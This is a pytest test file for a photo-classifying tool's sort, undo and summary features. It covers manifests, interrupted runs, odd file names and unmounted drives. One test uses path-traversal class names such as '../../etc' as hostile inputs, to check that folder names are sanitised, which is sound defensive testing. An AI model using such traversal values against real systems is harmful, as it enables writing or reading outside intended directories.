    photos = photo_folder(tmp_path / "photos")
    predictions = classified(engine, photos)
    dest, names = tmp_path / "sorted", list(CLASS_NAMES)
    corrected = {str(photos / "mouse.png"): "Keyboard", str(photos / "unsure.png"): "PCB"}
    sort_into(predictions, dest, names, THRESHOLD, confirmed=corrected)

    # The headless command again, or with another threshold: it knows no person's word.
    for threshold in (THRESHOLD, 0.2):
        report = sort_into(predictions, dest, names, threshold)
        assert not report.refiled and not report.filed
    assert (dest / "Keyboard" / "mouse.png").is_file()
    assert (dest / "PCB" / "unsure.png").is_file()


def test_a_refile_stopped_before_the_old_name_went_is_finished_by_the_next_sort(
    engine, tmp_path
) -> None:
    photos, before, predictions, dest, names = sorted_once(engine, tmp_path, move=True)
    corrected = {str(photos / "mouse.png"): "Keyboard"}
    sort_into(predictions, dest, names, THRESHOLD, move=True, confirmed=corrected)
    # What a stop after the new manifest row, before the old name went, leaves behind:
    shutil.copy2(dest / "Keyboard" / "mouse.png", dest / "Mouse" / "mouse.png")

    again = sort_into(predictions, dest, names, THRESHOLD, move=True, confirmed=corrected)

    assert len(again.skipped) == len(before) and not again.refiled
    assert not (dest / "Mouse" / "mouse.png").exists()  # one photo, one place
    assert sorted(digest(p) for p in files_under(dest)) == sorted(before.values())
    # An undo whose latest copy was edited: one photo not put back, counted once.
    (dest / "Keyboard" / "mouse.png").write_bytes(b"edited by hand")
    report = undo_sort(dest)
    assert len(report.failed) == 1 and len(report.filed) == len(before) - 1


def test_a_photo_set_back_to_its_first_class_stays_there_at_the_next_sort(engine, tmp_path):
    # A person's class Battery -> PCB -> Battery: the first row and the latest name the same
    # file. The leftover sweep must see it is the current place, not a re-file's old copy.
    card, dest, names = tmp_path / "card", tmp_path / "sorted", list(CLASS_NAMES)
    card.mkdir()
    photo = write_solid(card / "item.png", PROTOTYPE_COLOURS["Battery"])
    before = digest(photo)
    predictions = classified(engine, card)
    sort_into(predictions, dest, names, THRESHOLD, move=True)
    for person in ("PCB", "Battery"):
        confirmed = {str(photo): person}
        sort_into(predictions, dest, names, THRESHOLD, move=True, confirmed=confirmed)
    assert digest(dest / "Battery" / "item.png") == before

    again = sort_into(predictions, dest, names, THRESHOLD, move=True, confirmed=confirmed)

    assert again.skipped == [str(photo)] and not again.failed
    assert digest(dest / "Battery" / "item.png") == before  # its only copy: the card is empty
    assert [digest(p) for p in files_under(dest)] == [before]


def test_a_sorted_copy_changed_by_hand_is_not_refiled(engine, tmp_path) -> None:
    photos, _, predictions, dest, names = sorted_once(engine, tmp_path)
    edited = dest / "Mouse" / "mouse.png"
    edited.write_bytes(edited.read_bytes() + b"edited")

    report = sort_into(
        predictions,
        dest,
        names,
        THRESHOLD,
        confirmed={str(photos / "mouse.png"): "Keyboard"},
    )

    assert not report.refiled and edited.is_file()  # the person's edit stays where it is
    assert [p.name for p in (dest / "Keyboard").iterdir()] == ["keyboard.png"]


def test_the_command_sorts_after_the_csv_and_refuses_a_destination_inside_a_source(
    tiny_model_path, tmp_path, capsys
) -> None:
    photos = photo_folder(tmp_path / "photos")
    model = ["--model", str(tiny_model_path)]
    inside = ["--csv", str(tmp_path / "r.csv"), "--sort-into", str(photos / "sorted")]
    assert classify_main([str(photos), *inside, *model]) == 2
    assert "inside the source folder" in capsys.readouterr().err
    assert not (photos / "sorted").exists() and not (tmp_path / "r.csv").exists()

    dest = tmp_path / "sorted"
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest), "--move"]
    assert classify_main([*args, *model]) == 0
    assert "moved 12 photos into" in capsys.readouterr().out
    assert list(photos.iterdir()) == [] and len(files_under(dest)) == 12

    assert classify_main(["--undo-sort", str(dest)]) == 0
    assert len(list(photos.iterdir())) == 12
    assert classify_main(["--undo-sort", str(dest)]) == 2  # nothing left to undo
    assert "was undone already: nothing left to undo" in capsys.readouterr().err
    assert classify_main(["--undo-sort", str(tmp_path / "sortd")]) == 2  # a typo
    assert "sortd does not exist: nothing to undo" in capsys.readouterr().err
    assert classify_main(["--undo-sort", str(tmp_path / "r.csv")]) == 2  # a file, not DEST
    assert "r.csv is a file, not a folder a sort went into" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("others", "named"),
    [
        (["--watch", "{photos}", "--csv", "{tmp}/w.csv"], "--watch, --csv given"),
        (["--summary", "{tmp}/s.png", "--flip-average"], "--summary, --flip-average given"),
        (["{photos}", "--model", "{tmp}/m.onnx"], "PATHs, --model given"),
        (["--ray", "--poll", "2"], "--ray, --poll given"),
        (["--review-threshold", "0.7", "--batch", "32"], "--review-threshold, --batch given"),
    ],
    ids=["watch", "summary", "paths-model", "ray-poll", "at-their-defaults"],
)
def test_an_undo_asked_with_other_options_undoes_nothing(
    engine, tmp_path, capsys, others, named
) -> None:
    # A watch (or a run) asked for beside --undo-sort must not turn into an undo alone,
    # moving every photo back while the person waits for the watch.
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    argv = [a.format(photos=photos, tmp=tmp_path) for a in others]
    assert classify_main(["--undo-sort", str(dest), *argv]) == 2
    assert f"--undo-sort DEST takes no other arguments: {named}" in capsys.readouterr().err
    assert list(photos.iterdir()) == [] and len(manifest_rows(dest)) == 12


def test_a_file_in_place_of_the_manifest_is_never_sorted_on_nor_undone(
    engine, tiny_model_path, tmp_path, capsys
) -> None:
    # A results CSV saved as DEST/manifest.csv: an undo reading it as "nothing filed"
    # deleted it and stranded the sorted photos; a sort appended its rows to it.
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    manifest = dest / MANIFEST_FILE
    manifest.write_text("path,predicted_class\nx.jpg,Mouse\n", encoding="utf-8")

    assert classify_main(["--undo-sort", str(dest)]) == 2
    assert "is not a manifest this app wrote (it has no source, destination" in (
        capsys.readouterr().err
    )
    assert manifest.read_text(encoding="utf-8") == "path,predicted_class\nx.jpg,Mouse\n"
    assert len(files_under(dest)) == 12 and list(photos.iterdir()) == []
    command = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest)]
    assert classify_main([*command, "--model", str(tiny_model_path)]) == 2
    assert "is not a manifest this app wrote" in capsys.readouterr().err


def test_an_empty_manifest_left_by_a_stop_gets_its_header_and_undoes(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest = tmp_path / "sorted"
    dest.mkdir()
    (dest / MANIFEST_FILE).touch()  # created, then the sort was killed before a row
    with pytest.raises(SortError, match="lists no photo: nothing to undo"):
        undo_sort(dest)
    assert (dest / MANIFEST_FILE).is_file()  # kept: nothing done, nothing to forget
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert len(manifest_rows(dest)) == 12  # read with its header, as the undo reads it
    assert len(undo_sort(dest).filed) == 12
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_a_folder_named_as_the_manifest_is_refused_before_any_work(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "photos")
    (tmp_path / "sorted" / MANIFEST_FILE).mkdir(parents=True)
    with pytest.raises(SortError, match="is a folder, not a sort's manifest"):
        sort_into(classified(engine, photos), tmp_path / "sorted", list(CLASS_NAMES), THRESHOLD)
    assert files_under(tmp_path / "sorted") == []


def test_a_manifest_that_cannot_be_read_whole_stops_the_sort_not_the_csv(
    tiny_model_path, tmp_path, capsys
) -> None:
    photos = photo_folder(tmp_path / "photos")
    dest, results = tmp_path / "sorted", tmp_path / "r.csv"
    dest.mkdir()
    header = ",".join(sort_manifest.MANIFEST_COLUMNS)
    # Re-saved by a spreadsheet in the Windows code page: its header and first rows read,
    # a name far down does not.
    rows = "".join(f"/old/{i}.jpg,{dest}/Mouse/{i}.jpg,Mouse,ok,0,move\r\n" for i in range(2000))
    (dest / MANIFEST_FILE).write_bytes(
        f"{header}\r\n{rows}".encode() + b"/old/M\xfcller.jpg,x,y,ok,0,move\r\n"
    )
    command = [str(photos), "--csv", str(results), "--sort-into", str(dest), "--move"]
    assert classify_main([*command, "--model", str(tiny_model_path)]) == 1
    err = capsys.readouterr().err
    assert f"cannot read {dest / MANIFEST_FILE}" in err and "Traceback" not in err
    assert len(list(photos.iterdir())) == 12  # nothing moved
    with results.open(encoding="utf-8-sig", newline="") as handle:
        assert len(list(csv.DictReader(handle))) == 12  # the run's results are kept


def test_a_destination_that_cannot_be_written_is_refused_before_any_work(engine, tmp_path):
    photos = photo_folder(tmp_path / "photos")
    with pytest.raises(SortError, match="cannot write to"):
        sort_into(classified(engine, photos), "/proc/no-such-dest", list(CLASS_NAMES), 0.7)
    assert len(list(photos.iterdir())) == 12


def test_a_destination_on_a_drive_not_plugged_in_is_refused_not_made(
    tiny_model_path, tmp_path, capsys
) -> None:
    # Unmounted, /media/station/SORTED is gone with its mount point: making the path again
    # would move the camera's photos onto the station's own disk, where nobody looks.
    photos = photo_folder(tmp_path / "photos")
    dest = tmp_path / "media" / "station" / "sorted"
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest), "--move"]
    assert classify_main([*args, "--model", str(tiny_model_path)]) == 2
    assert "(a drive not plugged in?): create it first" in capsys.readouterr().err
    assert not (tmp_path / "media").exists() and len(list(photos.iterdir())) == 12
    dest.parent.mkdir(parents=True)  # plugged in: the last level is made, as before
    assert classify_main([*args, "--model", str(tiny_model_path)]) == 0
    assert dest.is_dir() and not list(photos.iterdir())


def test_one_photo_is_counted_as_one_photo(tiny_model_path, tmp_path, capsys) -> None:
    photos = tmp_path / "photos"
    photos.mkdir()
    write_solid(photos / "mouse.png", PROTOTYPE_COLOURS["Mouse"])
    dest = tmp_path / "sorted"
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest)]
    assert classify_main([*args, "--model", str(tiny_model_path)]) == 0
    assert f"copied 1 photo into {dest} " in capsys.readouterr().out
    assert classify_main(["--undo-sort", str(dest)]) == 0
    assert f"put back 1 photo from {dest}; all copies, deleted" in capsys.readouterr().out


def test_a_destination_that_is_a_file_is_refused_before_any_work(
    tiny_model_path, tmp_path, capsys
) -> None:
    photos = photo_folder(tmp_path / "photos")
    taken = tmp_path / "results.csv"
    taken.write_text("a worker's own file\n")
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(taken)]
    assert classify_main([*args, "--model", str(tiny_model_path)]) == 2
    assert f"the destination {taken} is a file, not a folder" in capsys.readouterr().err
    assert taken.read_text() == "a worker's own file\n" and not (tmp_path / "r.csv").exists()


def test_the_summary_counts_unknown_items_apart_from_their_nearest_class() -> None:
    from desktop.core.summary import BAR_STATUSES, COLOURS, STATUS_UNKNOWN, render, summarise

    sure = [0.9] + [0.1 / 9] * 9
    rows = [
        Prediction("/shift/mouse.jpg", sure),
        Prediction("/shift/sun.png", sure, unknown_score=9.0, unknown=True),
        Prediction("/shift/cable.jpg", sure, unknown_score=8.0, unknown=True),
        Prediction.failed("/shift/empty.jpg", "empty file (0 bytes)"),
    ]
    summary = summarise(
        rows,
        CLASS_NAMES,
        THRESHOLD,
        model_name="m.onnx",
        model_sha256="0" * 64,
        confirmed={"/shift/cable.jpg": "Keyboard"},  # a person knew this one
    )
    # As the sort files them: the unknown one under _review, not in Battery's folder.
    assert sum(summary.of(CLASS_NAMES[0], status) for status in BAR_STATUSES) == 1
    assert summary.unknown == 1 and summary.of("Keyboard", "ok") == 1
    assert summary.errors == 1 and summary.total == 4
    picture = render(summary)  # its own line, in the unknown items' colour
    assert COLOURS[STATUS_UNKNOWN] in {colour for _, colour in picture.getcolors(1 << 16)}


def test_the_summary_draws_accented_class_names_as_letters_not_boxes() -> None:
    # A retrained model for a French station: Pillow's own font drew every accented
    # letter as the same box as a letter it has no glyph for.
    from desktop.core.summary import LABEL_WIDTH, MARGIN, ROW_HEIGHT, BatchSummary, render

    names = ["Batterie usagée", "Batterie usag\u4e2de"]  # the second: a letter no font here has
    picture = render(BatchSummary(names, THRESHOLD, "modèle.onnx", "0" * 64))
    top = MARGIN + 78
    labels = [
        picture.crop((MARGIN, y, MARGIN + LABEL_WIDTH, y + ROW_HEIGHT)).tobytes()
        for y in (top, top + ROW_HEIGHT)
    ]
    assert labels[0] != labels[1]


def test_the_summary_names_the_model_that_made_the_rows_not_the_one_loaded_now() -> None:
    from desktop.core.summary import summarise

    sure = [0.9] + [0.1 / 9] * 9
    earlier, now = ("a.onnx", "a" * 64), ("b.onnx", "b" * 64)
    rows = [Prediction(f"/shift/{i}.jpg", sure, model=earlier) for i in range(3)]
    rows.append(Prediction("/shift/3.jpg", sure, model=("a copy.onnx", "a" * 64)))
    summary = summarise(rows, CLASS_NAMES, THRESHOLD, model_name=now[0], model_sha256=now[1])
    assert (summary.model_name, summary.model_sha256) == earlier  # one file, two names
    assert summary.models_line() == ""
    rows.append(Prediction("/shift/4.jpg", sure, model=now))
    summary = summarise(rows, CLASS_NAMES, THRESHOLD, model_name=now[0], model_sha256=now[1])
    assert summary.models_line() == (
        f"Classified by more than one model: 4 by a.onnx ({'a' * 12}…), 1 by b.onnx ({'b' * 12}…)"
    )


def test_a_class_name_too_long_for_its_column_is_cut_short_before_the_bar() -> None:
    from desktop.core.summary import LABEL_WIDTH, MARGIN, ROW_HEIGHT, BatchSummary, render

    name = "Lave-linge à chargement frontal (grand modèle)"
    picture = render(BatchSummary([name], THRESHOLD, "m.onnx", "0" * 64))
    top, bar = MARGIN + 78, MARGIN + LABEL_WIDTH
    gap = picture.crop((bar - 8, top, bar, top + ROW_HEIGHT))  # just left of the bar
    assert gap.getcolors() == [(8 * ROW_HEIGHT, (255, 255, 255))]


def test_the_command_draws_the_batch_summary(tiny_model_path, tmp_path, capsys) -> None:
    from PIL import Image

    from desktop.core.summary import STATUS_ERROR, STATUS_REVIEW, summarise

    photos = photo_folder(tmp_path / "photos")
    png = tmp_path / "shift.png"
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--summary", str(png)]
    assert classify_main([*args, "--model", str(tiny_model_path)]) == 0
    assert f"batch summary: {png}" in capsys.readouterr().out
    with Image.open(png) as picture:
        assert picture.format == "PNG" and picture.size[0] == 900

    engine = Engine(tiny_model_path, threads=1)
    summary = summarise(
        classified(engine, photos), CLASS_NAMES, THRESHOLD, model_name="m", model_sha256="0" * 64
    )
    assert summary.total == 12 and summary.errors == 1
    assert summary.caption().endswith("· review below 70 %")
    summary.threshold = 0.955  # as typed, never rounded to a threshold nobody chose
    assert summary.caption().endswith("· review below 95.5 %")
    assert summary.of("Battery", "ok") == 1
    assert sum(summary.of(n, STATUS_REVIEW) for n in CLASS_NAMES) == 1  # the ambiguous one
    assert STATUS_ERROR not in {status for _, status in summary.counts}


def test_a_summary_that_cannot_be_drawn_does_not_hold_back_the_sort(
    tiny_model_path, tmp_path, monkeypatch, capsys
) -> None:
    # The summary is an extra: a full disk under it is said, and the photos are sorted all
    # the same (the exit status still says that not everything asked for was written).
    import desktop.core.cli_workflow as cli_workflow

    monkeypatch.setattr(cli_workflow, "save_png", disk_full)
    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--summary", str(tmp_path / "s.png")]
    code = classify_main([*args, "--sort-into", str(dest), "--model", str(tiny_model_path)])
    assert code == 1
    assert "No space left on device" in capsys.readouterr().err
    filed = [p.name for p in dest.rglob("*.png")]
    assert sorted(filed) == sorted(p.name for p in photos.glob("*.png"))


def test_a_photo_replaced_after_it_was_classified_is_left_where_it_is(
    tiny_model_path, tmp_path, monkeypatch, capsys
) -> None:
    # A card swapped, or a camera's counter reset, between classifying and sorting: the
    # new photo under a classified name must not be filed (and recorded) as the old one.
    import desktop.core.cli as cli

    photos, dest = photo_folder(tmp_path / "photos"), tmp_path / "sorted"
    real_sort = cli.sort_photos

    def sort_after_a_swap(*args, **kwargs):
        write_solid(photos / "battery.png", PROTOTYPE_COLOURS["Printer"])
        return real_sort(*args, **kwargs)

    monkeypatch.setattr(cli, "sort_photos", sort_after_a_swap)
    args = [str(photos), "--csv", str(tmp_path / "r.csv"), "--sort-into", str(dest), "--move"]
    assert classify_main([*args, "--model", str(tiny_model_path)]) == 1
    said = capsys.readouterr().err
    assert f"not sorted: {photos / 'battery.png'}: changed since it was classified" in said
    assert [p.name for p in photos.iterdir()] == ["battery.png"]
    assert (
        not (dest / "Battery").exists() and "battery.png" not in (dest / MANIFEST_FILE).read_text()
    )


def test_a_csv_that_cannot_be_written_says_nothing_was_sorted(
    tiny_model_path, tmp_path, monkeypatch, capsys
) -> None:
    import desktop.core.cli as cli

    monkeypatch.setattr(cli, "write_results_csv", disk_full)
    dest = tmp_path / "sorted"
    args = [str(photo_folder(tmp_path / "photos")), "--csv", str(tmp_path / "r.csv")]
    code = classify_main([*args, "--sort-into", str(dest), "--model", str(tiny_model_path)])
    assert code == 1
    assert f"nothing was sorted into {dest}" in capsys.readouterr().err
    assert not list(dest.rglob("*.png"))


def test_a_summary_name_as_long_as_the_file_system_allows_is_written(
    tiny_model_path, tmp_path, capsys
) -> None:
    # The name passes the check before the work, so the picture written at the end must fit
    # too: a temporary name of its name plus ".tmp" was too long, and the run's end failed.
    png = tmp_path / ("s" * 251 + ".png")  # 255 bytes, the most ext4 and NTFS allow
    args = [str(photo_folder(tmp_path / "photos")), "--csv", str(tmp_path / "r.csv")]
    code = classify_main([*args, "--summary", str(png), "--model", str(tiny_model_path)])
    assert code == 0, capsys.readouterr().err
    assert png.is_file() and [p.name for p in tmp_path.glob(".*")] == []


def test_a_class_name_from_the_model_never_leads_outside_the_destination(tmp_path) -> None:
    from desktop.core.sorting import folder_for, safe_folder_name

    assert safe_folder_name("../../etc") == "_.._etc"
    assert safe_folder_name("a/b\\c") == "a_b_c" and safe_folder_name("..") == "_"
    assert safe_folder_name("Washing Machine") == "Washing Machine"
    photo = write_solid(tmp_path / "p.png", PROTOTYPE_COLOURS["Battery"])
    evil = ["../../escape", "B"]
    prediction = Prediction(str(photo), [0.99, 0.01])
    assert folder_for(prediction, evil, THRESHOLD, None) == "_.._escape"
    dest = tmp_path / "sorted"
    sort_into([prediction], dest, evil, THRESHOLD)
    assert (dest / "_.._escape" / "p.png").is_file() and not (tmp_path.parent / "escape").exists()


def test_sorting_a_pile_inside_the_destination_again_keeps_every_photo(engine, tmp_path):
    dest = tmp_path / "sorted"
    pile = dest / "Battery"
    pile.mkdir(parents=True)
    photo = write_solid(pile / "battery.png", PROTOTYPE_COLOURS["Battery"])
    before = digest(photo)

    report = sort_into(classified(engine, pile), dest, list(CLASS_NAMES), THRESHOLD, move=True)

    assert photo.is_file() and digest(photo) == before  # its only copy, never deleted
    assert [Path(f.destination) for f in report.filed] == [photo]


def test_two_identical_photos_from_two_folders_are_both_kept_and_both_put_back(engine, tmp_path):
    first, second = tmp_path / "a", tmp_path / "b"
    first.mkdir()
    second.mkdir()
    for folder in (first, second):
        write_solid(folder / "same.png", PROTOTYPE_COLOURS["Mouse"])
    dest = tmp_path / "sorted"
    rows = classified(engine, first) + classified(engine, second)

    sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert sorted(p.name for p in (dest / "Mouse").iterdir()) == ["same (2).png", "same.png"]

    assert not undo_sort(dest).failed
    assert (first / "same.png").is_file() and (second / "same.png").is_file()


def test_two_classes_whose_names_only_differ_in_forbidden_characters_keep_apart() -> None:
    from desktop.core.sorting import class_folders

    assert class_folders(["A/B", "A_B", "a_b", "Mouse"]) == {
        "A/B": "A_B",
        "A_B": "A_B (2)",
        "a_b": "a_b (3)",
        "Mouse": "Mouse",
    }


def test_class_names_of_the_destinations_own_files_or_too_long_still_sort_and_undo(tmp_path):
    # A class named "manifest.csv" failed every photo of it (the record is no folder), and
    # renaming the record, as the error said, lost the undo; a name of 175 letters but 313
    # bytes failed every photo of it ("File name too long").
    long_name = "électroménager " * 9 + "\U0001f50c" * 40
    names = ["manifest.csv", "Manifest.Undone.csv", long_name, "manifest.undone (2).csv"]
    photos = []
    (tmp_path / "in").mkdir()
    for index in range(len(names)):
        photo = write_solid(tmp_path / "in" / f"p{index}.png", PROTOTYPE_COLOURS["Battery"])
        sure = [0.97 if i == index else 0.01 for i in range(len(names))]
        photos.append(Prediction(str(photo), sure))
    dest = tmp_path / "sorted"

    report = sort_into(photos, dest, names, THRESHOLD, move=True)

    assert not report.failed and len(report.filed) == len(names)
    folders = sorted(p.name for p in dest.iterdir() if p.is_dir())
    assert folders[:3] == [
        "Manifest.Undone.csv (class)",
        "manifest.csv (class)",
        "manifest.undone (2).csv (class)",
    ]
    assert folders[3].startswith("électroménager") and len(os.fsencode(folders[3])) <= 255
    assert not undo_sort(dest).failed
    assert sorted(p.name for p in (tmp_path / "in").iterdir()) == [f"p{i}.png" for i in range(4)]


def test_a_manifest_saved_without_its_last_line_end_takes_the_next_sort_apart(engine, tmp_path):
    # An editor (or a power cut) left no line end: the next row ran into the last one, and
    # the undo lost track of the photo that row named.
    done = sorted_once(engine, tmp_path, move=True)
    manifest = done.dest / MANIFEST_FILE
    manifest.write_bytes(manifest.read_bytes().rstrip(b"\r\n"))
    more = photo_folder(tmp_path / "more")
    sort_into(classified(engine, more), done.dest, done.names, THRESHOLD, move=True)
    assert len(manifest_rows(done.dest)) == 2 * len(done.before)

    assert not undo_sort(done.dest).failed
    assert {p.name: digest(p) for p in done.photos.iterdir()} == done.before
    assert {p.name: digest(p) for p in more.iterdir()} == done.before
    assert files_under(done.dest) == [done.dest / UNDONE_MANIFEST_FILE]


def test_an_undo_waits_for_a_card_that_is_not_inserted(engine, tmp_path) -> None:
    photos = photo_folder(tmp_path / "card" / "DCIM")
    before = {p.name: digest(p) for p in photos.iterdir()}
    dest = tmp_path / "sorted"
    sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    pulled = (tmp_path / "card").rename(tmp_path / "card-in-the-drawer")  # unmounted
    report = undo_sort(dest)
    # Nothing is put under a folder made up in its place (a card inserted later hides it).
    assert not (tmp_path / "card").exists() and len(report.failed) == len(before)
    assert "nor the folder above it: a card or share not connected?" in report.failed[0][1]
    assert len(manifest_rows(dest)) == len(before)  # kept for the next try

    pulled.rename(tmp_path / "card")
    assert not undo_sort(dest).failed
    assert {p.name: digest(p) for p in photos.iterdir()} == before


def test_an_undo_says_to_make_again_a_tree_of_photo_folders_deleted_whole(engine, tmp_path) -> None:
    # Photos in shift/ and shift/bench/2/, moved; then shift/ deleted, emptied, as a whole.
    # From here that looks like a card not inserted, which a folder made up must not hide:
    # shift/ is made again (the folder above it is there), shift/bench/2/ is asked for.
    shift = tmp_path / "shift"
    photo_folder(shift)
    deep = shift / "bench" / "2"
    deep.mkdir(parents=True)
    write_solid(deep / "mouse-2.png", PROTOTYPE_COLOURS["Mouse"])
    before = {p.relative_to(shift): digest(p) for p in shift.rglob("*") if p.is_file()}
    rows = classified(engine, shift) + classified(engine, deep)
    dest = tmp_path / "sorted"
    sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    shutil.rmtree(shift)
    [(_, why)] = undo_sort(dest).failed
    assert why.endswith(f"(or, if the folders were deleted, once {deep} is made again)")
    deep.mkdir(parents=True)
    assert not undo_sort(dest).failed
    assert {p.relative_to(shift): digest(p) for p in shift.rglob("*") if p.is_file()} == before


def test_an_undo_makes_again_the_folder_a_person_deleted_once_it_was_empty(engine, tmp_path):
    done = sorted_once(engine, tmp_path, move=True)
    done.photos.rmdir()  # the move emptied it
    assert not undo_sort(done.dest).failed
    assert {p.name: digest(p) for p in done.photos.iterdir()} == done.before


@pytest.mark.parametrize("move", [True, False])
def test_an_undo_finds_the_photos_of_a_renamed_destination(engine, tmp_path, move) -> None:
    done = sorted_once(engine, tmp_path, move=move)
    renamed = done.dest.rename(tmp_path / "sorted-monday")  # or a stick given a new letter
    report = undo_sort(renamed)
    assert not report.failed and len(report.filed) == len(done.before)
    assert {p.name: digest(p) for p in done.photos.iterdir()} == done.before
    assert files_under(renamed) == [renamed / UNDONE_MANIFEST_FILE]  # no copy left behind


def test_a_damaged_manifest_row_is_reported_and_kept_never_acted_on(engine, tmp_path) -> None:
    done = sorted_once(engine, tmp_path, move=True)
    manifest = done.dest / MANIFEST_FILE
    lines = manifest.read_text(encoding="utf-8").splitlines(keepends=True)
    # Two rows run together, as a cut-short write left them (the first one's action lost),
    # and a last row cut short inside its source.
    merged = lines[1].rstrip("\r\n").rsplit(",", 1)[0] + "," + lines[2]
    cut_short = lines[-1][:20]
    manifest.write_text("".join([lines[0], merged, *lines[3:-1], cut_short]), encoding="utf-8")

    report = undo_sort(done.dest)
    kept = "line {} is damaged; kept in it as it is, for a person to mend"
    assert report.failed == [(str(manifest), kept.format(12)), (str(manifest), kept.format(2))]
    assert len(report.filed) == len(done.before) - 3  # the three rows' photos stay filed
    # Kept whole, every cell, for a person to mend: the second photo's place is in it.
    assert manifest.read_text(encoding="utf-8").splitlines() == [
        lines[0].rstrip(),
        merged.rstrip(),
        cut_short,
    ]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["photos", "sorted"]


def test_a_name_that_is_not_text_fails_alone_and_leaves_nothing_behind(engine, tmp_path):
    photos = photo_folder(tmp_path / "photos")
    try:  # a card written by another system: Latin-1 bytes in a UTF-8 file system
        odd = photos / Path(os.fsdecode(b"caf\xe9.png"))
        shutil.copyfile(photos / "battery.png", odd)
    except (OSError, UnicodeError):
        pytest.skip("this file system stores only names that are text")
    dest = tmp_path / "sorted"
    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert report.failed == [(str(odd), "its name is not valid text: rename it to sort")]
    assert len(report.filed) == 12 and list(photos.iterdir()) == [odd]  # the others went
    assert len(manifest_rows(dest)) == 12 and len(files_under(dest)) == 12  # no stray copy


def test_a_folder_whose_name_is_not_text_is_named_as_what_to_rename(engine, tmp_path):
    # A Windows zip unpacked on Linux: "Fotos_Müller" in cp1252 bytes. Renaming the photo
    # would not help; the message must name the folder.
    try:
        folder = tmp_path / Path(os.fsdecode(b"Fotos_M\xfcller"))
        photos = photo_folder(folder)
    except (OSError, UnicodeError):
        pytest.skip("this file system stores only names that are text")
    dest = tmp_path / "sorted"
    report = sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
    reasons = {reason for _, reason in report.failed}
    assert reasons == {"its folder Fotos_M\\xfcller has a name that is not valid text: rename it"}
    assert len(report.failed) == 12


def test_a_second_photo_of_a_name_as_long_as_allowed_is_filed_under_a_shorter_one(
    engine, tmp_path
) -> None:
    # 85 Chinese characters reach the 255-byte limit: " (2)" must not take it past.
    name = "\u7535" * 83 + ".png"  # 253 bytes
    mouse = PROTOTYPE_COLOURS["Mouse"]
    for folder, colour in (("a", mouse), ("b", tuple(min(c + 1, 255) for c in mouse))):
        (tmp_path / folder).mkdir()
        write_solid(tmp_path / folder / name, colour)  # two photos, one name, one class
    rows = [p for f in ("a", "b") for p in classified(engine, tmp_path / f)]
    dest = tmp_path / "sorted"
    report = sort_into(rows, dest, list(CLASS_NAMES), THRESHOLD, move=True)
    assert report.failed == [] and len(report.filed) == 2
    assert all(len(os.fsencode(p.name)) <= 255 for p in (dest / "Mouse").iterdir())
    undo_sort(dest)
    assert [len(list((tmp_path / f).iterdir())) for f in ("a", "b")] == [1, 1]


def test_an_undo_stopped_after_a_numbered_name_finishes_next_time(engine, tmp_path) -> None:
    done = sorted_once(engine, tmp_path, move=True)
    (done.photos / "battery.png").write_bytes(b"a new photo under the name")
    real_unlink, stops = Path.unlink, []

    def stop_once(path, missing_ok=False):
        real_unlink(path, missing_ok=missing_ok)
        if path.name == "battery.png" and not stops:
            stops.append(path)
            raise KeyboardInterrupt  # Ctrl+C just after the photo was put back, numbered

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Path, "unlink", stop_once)
        with pytest.raises(KeyboardInterrupt):
            undo_sort(done.dest)
    assert (done.photos / "battery (2).png").is_file()

    report = undo_sort(done.dest)
    assert not report.failed and not (done.dest / MANIFEST_FILE).exists()
    assert digest(done.photos / "battery (2).png") == done.before["battery.png"]
    # Told, as an undo that was not stopped tells it.
    back = done.photos / "battery (2).png"
    assert report.renamed == [(str(done.photos / "battery.png"), str(back))]


def test_an_undo_stopped_before_the_filed_name_went_leaves_one_photo(engine, tmp_path) -> None:
    done = sorted_once(engine, tmp_path, move=True)
    (done.photos / "battery.png").write_bytes(b"a new photo under the name")
    filed = done.dest / "Battery" / "battery.png"
    real_unlink = Path.unlink

    def stop_before(path, missing_ok=False):
        if path == filed:
            raise KeyboardInterrupt  # Ctrl+C between putting it back and removing it
        real_unlink(path, missing_ok=missing_ok)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(Path, "unlink", stop_before)
        with pytest.raises(KeyboardInterrupt):
            undo_sort(done.dest)

    report = undo_sort(done.dest)
    assert not report.failed and not filed.exists()
    # One name for the photo: not linked again as "battery (3).png".
    assert sorted(p.name for p in done.photos.iterdir() if p.name.startswith("battery")) == [
        "battery (2).png",
        "battery.png",
    ]
    back = done.photos / "battery (2).png"
    assert report.renamed == [(str(done.photos / "battery.png"), str(back))]


def test_a_destination_whose_name_is_not_text_is_refused_before_any_work(engine, tmp_path):
    photos = photo_folder(tmp_path / "photos")
    try:
        dest = tmp_path / os.fsdecode(b"sortiert-\xe9")
        dest.mkdir()
    except (OSError, UnicodeError):
        pytest.skip("this file system stores only names that are text")
    with pytest.raises(SortError, match="has a name that is not valid text"):
        sort_into(classified(engine, photos), dest, list(CLASS_NAMES), THRESHOLD, move=True)
